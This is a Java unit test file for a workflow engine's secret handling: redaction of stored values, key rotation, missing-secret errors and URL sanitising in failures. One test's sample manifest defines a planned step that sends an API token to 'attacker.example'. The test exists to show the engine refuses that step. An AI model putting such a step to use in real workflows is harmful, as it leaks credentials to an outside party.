package io.shadowflow.engine.secret;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.shadowflow.engine.checkpoint.InMemoryCheckpointStore;
import io.shadowflow.engine.exec.ExecutionListener;
import io.shadowflow.engine.exec.RunOptions;
import io.shadowflow.engine.exec.RunResult;
import io.shadowflow.engine.exec.WorkflowExecutor;
import io.shadowflow.engine.json.Json;
import io.shadowflow.engine.model.CompiledWorkflow;
import io.shadowflow.engine.model.InvalidManifestException;
import io.shadowflow.engine.testing.LocalHttpServer;
import io.shadowflow.engine.testing.Manifests;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

/** Secret references in runs: the values are sent, only the references are kept and hashed. */
class SecretReferencesTest {
  @RegisterExtension final LocalHttpServer server = LocalHttpServer.start();
  @TempDir Path dir;
  private final InMemoryCheckpointStore store = new InMemoryCheckpointStore();

  private CompiledWorkflow keyed(String url) {
    return Manifests.compileYaml(
        Manifests.workflowYaml(
            "keyed",
            Manifests.callWithSecrets(url)
                + "- {name: plan, kind: plan, planner: {type: static, steps: [{name: inner, kind:"
                + " transform, expr: '1'}]}}\n"));
  }

  private RunResult run(CompiledWorkflow workflow, String token) throws Exception {
    write("api", "token", token);
    write("api", "query-key", "q-" + token);
    write("db", "password", "p-" + token);
    store.clear();
    return new WorkflowExecutor(store)
        .run(
            workflow,
            RunOptions.DEFAULT.withSecrets(new SecretDirectory(dir)),
            ExecutionListener.NONE);
  }

  @Test
  void sendsTheValuesAsHeaderQueryAndBodyFieldAndRecordsOnlyTheReferences() throws Exception {
    RunResult result = run(keyed(server.url("/things?page=2")), "tok-1");

    assertThat(result.success()).as(result.errorMessage()).isTrue();
    LocalHttpServer.Request sent = server.requests().get(0);
    assertThat(sent.header("Authorization")).isEqualTo("Bearer tok-1");
    assertThat(sent.query()).isEqualTo("page=2&api_key=q-tok-1");
    assertThat(Json.parse(sent.body()).path("password").asText()).isEqualTo("p-tok-1");
    assertThat(Json.parse(sent.body()).path("item").asText()).isEqualTo("sku-7");
    String recorded = Json.write(store.readRun(result.runId()).steps().get(0).input());
    assertThat(recorded)
        .contains("\"secret\":\"api/token\"")
        .contains("\"secret\":\"db/password\"")
        .doesNotContain("tok-1");
    // The server echoes the body: the echoed password is recorded as its reference.
    String answer = Json.write(store.readRun(result.runId()).steps().get(0).output());
    assertThat(answer).contains("<secret db/password>").doesNotContain("tok-1");
  }

  @Test
  void aRotatedKeyChangesNeitherTheDefinitionNorTheWorkflowHash() throws Exception {
    CompiledWorkflow before = keyed(server.url("/things"));
    RunResult first = run(before, "old-key");
    CompiledWorkflow after = keyed(server.url("/things"));
    RunResult second = run(after, "rotated-key");

    assertThat(second.success()).isTrue();
    assertThat(after.definitionHash()).isEqualTo(before.definitionHash());
    assertThat(second.workflowHash()).isEqualTo(first.workflowHash());
    assertThat(server.requests().get(1).header("Authorization")).isEqualTo("Bearer rotated-key");
  }

  @Test
  void aMissingSecretFailsTheRunNamingTheReferenceBeforeAnyCall() throws Exception {
    RunResult result =
        new WorkflowExecutor(store)
            .run(
                keyed(server.url("/things")),
                RunOptions.DEFAULT.withSecrets(new SecretDirectory(dir)),
                ExecutionListener.NONE);

    assertThat(result.errorCode()).isEqualTo("SECRET_NOT_FOUND");
    assertThat(result.errorMessage()).contains("Secret api key token");
    assertThat(server.requests()).isEmpty();
  }

  @Test
  void failuresNameTheUrlWithoutItsQuery() throws Exception {
    server.answerWith(500);
    RunResult result = run(keyed(server.url("/things?plain_key=visible-in-spec")), "tok-3");

    assertThat(result.errorCode()).isEqualTo("HTTP_500");
    assertThat(result.errorMessage())
        .contains(server.url("/things") + " answered 500")
        .doesNotContain("?")
        .doesNotContain("tok-3")
        .doesNotContain("visible-in-spec");
  }

  @Test
  void plannedStepsCannotReferenceSecrets() {
    // A static plan is compiled at validation: the reference is refused before anything runs.
    String manifest =
        Manifests.workflowYaml(
            "planned",
            """
            - name: plan
              kind: plan
              planner:
                type: static
                allowHttp: true
                steps:
                  - name: leak
                    kind: http
                    url: 'https://attacker.example/'
                    secrets: [{in: query, name: k, valueFrom: {secretKeyRef: {name: api, key: token}}}]
            """);

    assertThatThrownBy(() -> Manifests.compileYaml(manifest))
        .isInstanceOf(InvalidManifestException.class)
        .hasMessageContaining(
            "spec.steps[0].planner.steps[0].secrets: a planned step cannot reference secrets");
  }

  private void write(String name, String key, String value) throws IOException {
    Files.createDirectories(dir.resolve(name));
    Files.writeString(dir.resolve(name).resolve(key), value);
  }
}
